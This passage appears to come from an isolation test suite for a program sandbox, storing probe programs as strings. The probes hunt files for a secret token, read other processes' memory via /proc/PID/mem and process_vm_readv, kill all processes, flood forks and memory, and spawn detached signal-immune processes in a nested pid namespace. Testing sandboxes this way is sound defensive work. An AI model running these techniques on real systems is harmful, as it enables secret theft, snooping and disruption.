        if path == "/sandbox/main.py":  # this program, which holds the token to look for
            continue
        if label_name in name or "private" in name:
            found.append(path)
        elif name in names and n < 20000:
            try:
                st = os.lstat(path)
                if stat.S_ISREG(st.st_mode) and st.st_size < (1 << 20) and TOKEN.encode() in open(path, "rb").read():
                    found.append(path)
            except OSError:
                pass
print("RESULT " + json.dumps({"found": found, "tried": tried, "walked": n}))
"""

HARNESS_CODE = r"""
import gc, json, sys, types
ROOTS = __ROOTS__
code_files = set()
for o in gc.get_objects():
    if isinstance(o, types.FunctionType):
        fn = o.__code__.co_filename
        if fn.startswith(ROOTS):
            code_files.add(fn)
mods = sorted(k for k, m in list(sys.modules.items())
              if (getattr(m, "__file__", None) or "").startswith(ROOTS))
cache = sorted(str(k) for k in sys.path_importer_cache if str(k).startswith(ROOTS))
print("RESULT " + json.dumps({"code": sorted(code_files), "modules": mods, "importer_cache": cache}))
"""

# --------------------------------------------------------------------------------------------
# address-space layout

LAYOUT_HOLDER = r"""
import ctypes, json, mmap, time
TOKEN = __TOKEN__
buf = mmap.mmap(-1, 1 << 22)
buf.write((TOKEN.encode() + b"|") * ((1 << 22) // (len(TOKEN) + 1)))
addr = ctypes.addressof(ctypes.c_char.from_buffer(buf))
libs = {}
for line in open("/proc/self/maps"):
    f = line.split()
    if len(f) > 5 and f[5] not in libs:
        libs[f[5]] = f[0].split("-")[0]
print("RESULT " + json.dumps({"addr": addr, "heap": libs.get("[heap]"), "stack": libs.get("[stack]"),
                              "n_maps": len(libs), "ready": time.time()}), flush=True)
time.sleep(__HOLD__)
"""

LAYOUT_READER = r"""
import ctypes, errno, json, os, time
H1, H2 = __HALVES__
ADDR = __ADDR__
time.sleep(__DELAY__)
libc = ctypes.CDLL(None, use_errno=True)
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
import mmap
own = mmap.mmap(-1, 1 << 16)
own.write((H2 + H1).encode() * 100)  # the same halves, other order: proves the reader reads
own_addr = ctypes.addressof(ctypes.c_char.from_buffer(own))
with open("/proc/self/mem", "rb", 0) as m:
    m.seek(own_addr)
    out_self = (H2 + H1).encode() in m.read(4096)
out = {"checked_at": time.time(), "per_pid": {}, "self_check": out_self}
needle_found = False
for p in sorted(int(x) for x in os.listdir("/proc") if x.isdigit()):
    r = {}
    try:
        with open(f"/proc/{p}/mem", "rb", 0) as m:
            m.seek(ADDR)
            data = m.read(4096)
            r["mem"] = len(data)
            i = data.find(H1.encode())
            if i >= 0 and data[i + len(H1): i + len(H1) + len(H2)] == H2.encode():
                needle_found = True
    except (OSError, ValueError, OverflowError) as e:
        r["mem"] = type(e).__name__
    buf = ctypes.create_string_buffer(4096)
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), 4096)
    remote = iovec(ADDR, 4096)
    ctypes.set_errno(0)
    rc = libc.process_vm_readv(p, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    r["process_vm_readv"] = [rc, errno.errorcode.get(ctypes.get_errno(), "")]
    if rc > 0:
        i = buf.raw.find(H1.encode())
        if i >= 0 and buf.raw[i + len(H1): i + len(H1) + len(H2)] == H2.encode():
            needle_found = True
    out["per_pid"][str(p)] = r
out["found"] = needle_found
print("RESULT " + json.dumps(out))
"""

# --------------------------------------------------------------------------------------------
# outcomes: the same program must end the same way under both backends

OUTCOMES = {
    "sigkill_self": ("import os, signal; os.kill(os.getpid(), signal.SIGKILL)", {}),
    "sigterm_self": ("import os, signal; os.kill(os.getpid(), signal.SIGTERM)", {}),
    "sigint_self": ("import os, signal; os.kill(os.getpid(), signal.SIGINT)", {}),
    "keyboard_interrupt": ("raise KeyboardInterrupt", {}),
    "segfault": ("import ctypes; ctypes.string_at(0)", {}),
    "abort": ("import os; os.abort()", {}),
    "os_exit_7": ("import os; os._exit(7)", {}),
    "raise": ("def f():\n    raise ValueError('boom-outcome')\nf()", {}),
    "sys_exit_msg": ("import sys; sys.exit('bye-outcome')", {}),
    "sys_exit_3": ("import sys; sys.exit(3)", {}),
    "sys_exit_300": ("import sys; sys.exit(300)", {}),
    "system_exit_none": ("raise SystemExit", {}),
    "exit_in_thread": (
        "import threading, sys\nt = threading.Thread(target=lambda: sys.exit(5))\n"
        "t.start(); t.join(); print('after')",
        {},
    ),
    "hang": ("import time; time.sleep(60)", {"wall_s": 2}),
    "hang_ignoring_sigterm": (
        "import signal, time\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(60)",
        {"wall_s": 2},
    ),
    "cpu_spin": ("while True: pass", {"cpu_s": 1}),
    "cpu_in_children": (
        "import os, time\nfor _ in range(3):\n    if os.fork() == 0:\n"
        "        t = time.process_time()\n"
        "        while time.process_time() - t < 0.9: pass\n"
        "        os._exit(0)\nfor _ in range(3): os.wait()\nprint('done')",
        {"cpu_s": 1.5},
    ),
    "oom": (
        "x = bytearray(700 * 2**20)\nfor i in range(0, len(x), 4096): x[i] = 1",
        {"memory_mb": 256},
    ),
    "fsize": ("open('big', 'wb').write(b'x' * (3 * 2**20))", {"file_mb": 1}),
    "flood": ("import sys\nfor _ in range(200): sys.stdout.write('x' * 65536)", {}),
    "close_stdio": ("import os; os.close(1); os.close(2)", {}),
    "fork_and_exit": (
        "import os, time\nif os.fork() == 0:\n    try:\n        os.setsid()\n    except OSError:\n        pass\n"
        "    time.sleep(30)\n"
        "    os._exit(0)\nprint('parent done')",
        {},
    ),
    "fork_many": (
        "import os, time\nn = 0\ntry:\n    for _ in range(200):\n        if os.fork() == 0:\n"
        "            time.sleep(30); os._exit(0)\n        n += 1\nexcept OSError:\n    pass\n"
        "print('forked', n > 0)",
        {"max_procs": 16},
    ),
    "nondaemon_thread_writes": (
        "import threading, time\ndef w():\n    time.sleep(0.5)\n"
        "    open('submission.csv', 'w').write('late')\n"
        "threading.Thread(target=w).start()",
        {},
    ),
    "atexit_writes": (
        "import atexit\natexit.register(lambda: open('submission.csv', 'w').write('atexit'))",
        {},
    ),
    "unflushed_file": ("f = open('submission.csv', 'w'); f.write('unflushed')", {}),
    "kill_minus_one": (
        "import os, signal, time\nos.kill(-1, signal.SIGKILL)\ntime.sleep(0.5)\nprint('survived')",
        {},
    ),
}

# The one documented difference (docs/security.md): under warm the program's parent lives outside
# its pid namespace, so os.getppid() is 0 and signalling "the parent" signals its own group.
SIGNAL_PARENT = (
    "import os, signal, time\nprint(os.getppid(), flush=True)\nos.kill(os.getppid(), signal.SIGTERM)\n"
    "time.sleep(0.5)\nprint('survived')"
)

NORMAL = r"""
import json, resource, time
import numpy as np
t = time.process_time()
while time.process_time() - t < 0.05:
    np.linalg.inv(np.eye(50) + 1)
open("submission.csv", "w").write("id,y\n1,0\n")
print("RESULT " + json.dumps({"ok": True, "cpu": resource.getrlimit(resource.RLIMIT_CPU),
                              "fsize": resource.getrlimit(resource.RLIMIT_FSIZE),
                              "nofile": resource.getrlimit(resource.RLIMIT_NOFILE)}))
"""

ECHO = r"""
import os, random, sys, time
TOKEN = __TOKEN__
time.sleep(random.random() * 0.3)
for _ in range(50):
    sys.stdout.write(TOKEN + "\n")
    sys.stderr.write("err-" + TOKEN + "\n")
open("submission.csv", "w").write(TOKEN)
"""

# A child in a nested pid namespace of the program's own (possible only with CAP_SYS_ADMIN in the
# program's user namespace), detached, immune to SIGTERM/SIGHUP/SIGINT, with a grandchild: both
# must die with the run.
NESTED_PIDNS = r"""
import ctypes, json, os, sys, time
libc = ctypes.CDLL(None, use_errno=True)
TOKEN = __TOKEN__
rc = libc.unshare(0x20000000 | 0x00020000)  # CLONE_NEWPID | CLONE_NEWNS; fails without caps
if os.fork() == 0:
    try:
        os.setsid()
    except OSError:  # refused in the sandbox (the autogroup counter)
        pass
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c",
                 "import signal, time\n"
                 "for s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)\n"
                 "time.sleep(60)\n", "wmrl-rt-" + TOKEN])
    os.execv(sys.executable, [sys.executable, "-c",
             "import signal, time\n"
             "for s in (1, 2, 15): signal.signal(s, signal.SIG_IGN)\n"
             "time.sleep(60)\n", "wmrl-rt-init-" + TOKEN])
time.sleep(1)
print("RESULT " + json.dumps({"unshare": rc}))
"""
